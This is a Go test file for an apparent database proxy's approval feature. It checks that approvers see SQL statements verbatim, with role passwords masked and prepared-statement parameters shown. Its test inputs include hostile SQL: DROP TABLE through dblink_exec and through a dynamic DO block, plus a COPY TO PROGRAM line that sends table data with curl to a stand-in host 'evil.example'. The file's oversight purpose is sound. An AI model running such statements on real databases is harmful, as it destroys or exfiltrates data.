package bastion

import (
	"strings"
	"testing"

	"github.com/bastionhq/bastion/bastion/pgproxy"
)

// TestSQLApprovalText: an approver is shown exactly what will run - the statement as
// sent, constants and bodies included, the values bound to a prepared statement, the
// statement an SQL EXECUTE runs - never the normalised text with constants as $n.
func TestSQLApprovalText(t *testing.T) {
	c := pgproxy.NewClassifier(16)
	for _, tc := range []struct{ sql, want string }{
		{"UPDATE accounts SET balance = 99999999 WHERE id = 1", "UPDATE accounts SET balance = 99999999 WHERE id = 1"},
		{"SELECT dblink_exec('dbname=shop', 'DROP TABLE victim')", "SELECT dblink_exec('dbname=shop', 'DROP TABLE victim')"},
		{"DO $$BEGIN EXECUTE 'DROP TABLE ' || 'victim'; END$$", "DO $$BEGIN EXECUTE 'DROP TABLE ' || 'victim'; END$$"},
		{"COPY victim TO PROGRAM 'curl -d @- http://evil.example/'", "COPY victim TO PROGRAM 'curl -d @- http://evil.example/'"},
		// A role's password is the one constant an approver does not need to see.
		{"ALTER ROLE app WITH LOGIN PASSWORD 's3cr''et' VALID UNTIL '2030-01-01'", "ALTER ROLE app WITH LOGIN PASSWORD '********' VALID UNTIL '2030-01-01'"},
		{"CREATE USER u PASSWORD E'x\\y'; SELECT 'password'", "CREATE USER u PASSWORD '********'; SELECT 'password'"},
	} {
		for range 2 { // a second time from the classifier's cache
			sts, err := c.Classify(tc.sql)
			if err != nil || len(sts) == 0 {
				t.Fatalf("%s: %v", tc.sql, err)
			}
			if got := sqlApprovalText(pgproxy.Statement{SQL: tc.sql}); len(sts) > 1 && got != tc.want {
				t.Errorf("approver sees %q, want %q", got, tc.want)
			}
			if got := sqlApprovalText(sts[0]); len(sts) == 1 && got != tc.want {
				t.Errorf("approver sees %q, want %q", got, tc.want)
			}
		}
	}
	// Another constant, same cache entry: the approver sees this statement's.
	sts, _ := c.Classify("UPDATE accounts SET balance = 5 WHERE id = 2")
	if got := sqlApprovalText(sts[0]); got != "UPDATE accounts SET balance = 5 WHERE id = 2" {
		t.Errorf("approver sees %q", got)
	}

	// An execution of a prepared statement: its text and the values bound.
	exec := pgproxy.Statement{SQL: "DELETE FROM victim WHERE id = $1 AND note = $2", Protocol: "execute",
		Params: []string{"'3'", "NULL"}}
	if got, want := sqlApprovalText(exec), "DELETE FROM victim WHERE id = $1 AND note = $2\n-- parameters: $1 = '3', $2 = NULL"; got != want {
		t.Errorf("approver sees %q, want %q", got, want)
	}
	// An SQL EXECUTE: the statement it runs.
	ex := pgproxy.Statement{SQL: "EXECUTE d(5)", Body: []pgproxy.Statement{{SQL: "PREPARE d(int) AS DELETE FROM v2 WHERE id = $1", Protocol: "prepared"}}}
	if got, want := sqlApprovalText(ex), "EXECUTE d(5)\n-- executes the prepared statement: PREPARE d(int) AS DELETE FROM v2 WHERE id = $1"; got != want {
		t.Errorf("approver sees %q, want %q", got, want)
	}
	// Bounded, saying how much is left out.
	long := pgproxy.Statement{SQL: "SELECT '" + strings.Repeat("é", maxApprovalSQL) + "'"}
	got := sqlApprovalText(long)
	if len(got) > maxApprovalSQL+100 || !strings.Contains(got, "more bytes of the statement not shown") {
		t.Errorf("long statement: %d bytes, ends %q", len(got), got[len(got)-60:])
	}
}
